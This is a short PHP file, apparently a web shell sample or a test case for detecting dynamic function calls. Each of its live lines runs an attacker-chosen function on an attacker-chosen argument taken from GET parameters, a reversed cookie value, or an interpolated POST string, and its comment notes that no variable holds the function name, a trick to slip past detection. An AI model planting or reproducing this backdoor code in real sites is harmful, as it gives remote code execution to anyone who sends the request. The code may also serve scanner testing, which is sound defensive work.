<?php
// the function's name is written out of the request, but held by no variable
if (isset($_GET['m'])) {
    [$_GET['k'], $_GET['m']]($_GET['v']);
}
strrev($_COOKIE['n'])($_COOKIE['v']);
"{$_POST['f']}"($_POST['a']);
